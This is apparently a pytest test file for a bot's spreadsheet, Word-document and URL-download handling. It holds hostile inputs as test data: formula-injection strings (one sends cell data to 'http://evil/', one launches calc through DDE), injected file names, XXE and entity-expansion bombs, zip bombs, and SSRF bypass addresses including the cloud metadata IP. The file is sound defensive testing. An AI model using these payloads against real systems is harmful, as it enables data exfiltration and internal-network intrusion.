"""Files and links that people send: tables, documents, addresses."""

import asyncio
import io
import socket
import time
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import openpyxl
import pytest

from bot.gateway import download
from bot.governance.sheet_errors import SheetError
from bot.governance.sheet_process import read_roster
from bot.governance.sheets import read_rows
from plugins.charter.checking import check_file
from plugins.charter.reading import Unreadable
from tests.plugins.charter.word import docx

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil/?"&A1,"点")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "＝1+1",
    "=cmd|'/c calc'!A0",
)


def workbook(*rows: tuple[object, ...]) -> bytes:
    book, data = openpyxl.Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(row)  # type: ignore[union-attr,arg-type]
    book.save(data)
    return data.getvalue()


def test_a_formula_in_a_workbook_is_text_or_nothing_and_is_never_worked_out() -> None:
    rows = read_rows(workbook(("姓名", "部门"), *((f, "=2*21") for f in FORMULAS)), "x.xlsx")
    assert all(isinstance(cell, str) for row in rows for cell in row)
    assert not [cell for row in rows for cell in row if cell.strip() in ("2", "42", "1")]


async def test_formulas_in_a_roster_stay_text() -> None:
    text = "姓名,部门,手机\n" + "".join(f'"{f.replace(chr(34), chr(34) * 2)}",研发部,13912345678\n' for f in FORMULAS)
    for data, name in (
        (text.encode(), "x.csv"),
        (workbook(("姓名", "部门"), *((f, "研发") for f in FORMULAS)), "x.xlsx"),
    ):
        sheet = await read_roster(data, name)
        assert all(isinstance(person.name, str) for person in sheet.people)
        assert not {person.name for person in sheet.people} & {"2", "1", "42"}


def test_tables_are_written_in_one_room_only_where_no_cell_becomes_a_formula() -> None:
    """Whoever exports something hands a Table to ``bot.papers``; its own tests hold that texts stay texts."""
    for room in ("bot", "plugins"):
        for path in (ROOT / room).rglob("*.py"):
            if path == ROOT / "bot" / "papers" / "tables.py":
                continue
            source = path.read_text("utf-8")
            assert not [word for word in ("csv.writer", "DictWriter", "Workbook(") if word in source], path


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "-c import os", "$(id).csv", "a;b.csv", "a\nb.csv", "𝕏" * 300, ""]
)
async def test_a_file_s_name_is_only_a_name(name: str) -> None:
    sheet = await read_roster("姓名,部门\n张三,研发部\n".encode(), name)
    assert [person.name for person in sheet.people] == ["张三"]


def zipped(files: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return data.getvalue()


ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{"&" + chr(97 + n) + ";" + ("&" + chr(97 + n) + ";") * 9}">' for n in range(8))
    + "]>"
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def document(body: str, head: str = "") -> bytes:
    return f"{head}<w:document {W}><w:body>{body}</w:body></w:document>".encode()


def bombs() -> dict[str, bytes]:
    plain = zipfile.ZipFile(io.BytesIO(docx("<w:p><w:r><w:t>第一条 一</w:t></w:r></w:p>"))) if callable(docx) else None
    parts = {name: plain.read(name) for name in plain.namelist()} if plain is not None else {}
    said = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    outer = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return {
        "a hundred megabytes of text": zipped({**parts, "word/document.xml": document(said.format("条" * 34_000_000))}),
        "entities in entities": zipped({**parts, "word/document.xml": document(said.format("&i;"), ENTITY)}),
        "an entity from outside": zipped({**parts, "word/document.xml": document(said.format("&x;"), outer)}),
        "deep nesting": zipped({**parts, "word/document.xml": document("<w:p>" * 200_000)}),
        "a million paragraphs": zipped({**parts, "word/document.xml": document("<w:p/>" * 1_000_000)}),
        "thousands of entries": zipped({**parts, **{f"word/{n}.xml": b"" for n in range(5_000)}}),
        "a zip in a zip": zipped({**parts, "word/document.xml": zipped({"a": b"0" * 10_000_000})}),
        "nothing in it": zipped({}),
        "cut off": zipped(parts)[:-100],
    }


def test_a_document_made_to_be_heavy_is_refused_or_read_within_its_bounds(tmp_path: Path) -> None:
    for name, data in bombs().items():
        path = tmp_path / f"{name}.docx"
        path.write_bytes(data)
        begun = time.monotonic()
        try:
            answer = check_file(path)
        except Unreadable as refused:
            said = str(refused)
            assert len(said.splitlines()) == 1, name
        else:
            assert "root:" not in str(answer), name
        assert time.monotonic() - begun < 14, name


async def test_a_workbook_of_zeros_is_refused_at_once() -> None:
    parts = {"[Content_Types].xml": b"x", "xl/workbook.xml": b"0" * 60_000_000}
    begun = time.monotonic()
    with pytest.raises(SheetError) as caught:
        await read_roster(zipped(parts), "x.xlsx")
    assert caught.value.code in ("zip_bomb", "broken", "not_a_sheet")
    assert time.monotonic() - begun < 5


@pytest.fixture
async def canary() -> AsyncIterator[tuple[int, list[str]]]:
    """A server inside: whoever comes to it has been led astray."""
    came: list[str] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        came.append((await reader.readline()).decode())
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1], came


INNER = ("127.0.0.1", "127.1", "0177.0.0.1", "0x7f000001", "2130706433", "localhost", "localhost.", "LOCALHOST", "0",
         "0.0.0.0",
         "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]",
         "①②⑦.⓪.⓪.①", "１２７.0.0.1",
         "169.254.169.254", "10.0.0.1", "192.168.1.1", "100.64.0.1", "[fe80::1]", "[fc00::1]", "[64:ff9b::7f00:1]",
         "user@127.0.0.1", "evil.cn@127.0.0.1", "127.0.0.1#@evil.cn", "127.0.0.1\\@evil.cn")  # fmt: skip


async def test_no_address_written_in_whatever_way_leads_inside(
    canary: tuple[int, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    port, came = canary
    monkeypatch.setattr(download, "_SECONDS", 0.3)
    for host in INNER:
        for scheme in ("http", "HTTPS"):
            async with asyncio.timeout(10):
                assert await download.fetch(f"{scheme}://{host}:{port}/x", 100) is None, host
    for url in (
        "file:///etc/passwd",
        "gopher://127.0.0.1/",
        "data:text/plain,x",
        "http:///x",
        "http://127.0.0.1:99999/",
        "\x00",
    ):
        assert await download.fetch(url, 100) is None, url
    assert came == []


async def test_a_name_that_leads_inside_is_not_followed_nor_one_that_changes_its_mind(
    canary: tuple[int, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The name service answers an outer address first and an inner one when it is asked again."""
    port, came = canary
    loop, asked = asyncio.get_running_loop(), list[str]()

    async def told(*answers: str) -> bytes | None:
        left = list(answers)

        async def getaddrinfo(host: str, port: int, **more: object) -> list[object]:
            asked.append(host)
            at = left.pop(0) if len(left) > 1 else left[0]
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (each, port)) for each in at.split(",")]

        monkeypatch.setattr(loop, "getaddrinfo", getaddrinfo)
        monkeypatch.setattr(download, "_SECONDS", 0.3)
        return await download.fetch(f"http://files.example.cn:{port}/x", 100)

    assert await told("127.0.0.1") is None
    assert await told("169.254.169.254") is None
    assert await told("203.0.114.7,127.0.0.1") is None
    assert await told("203.0.114.7", "127.0.0.1") is None
    assert asked.count("files.example.cn") == 4
    assert came == []
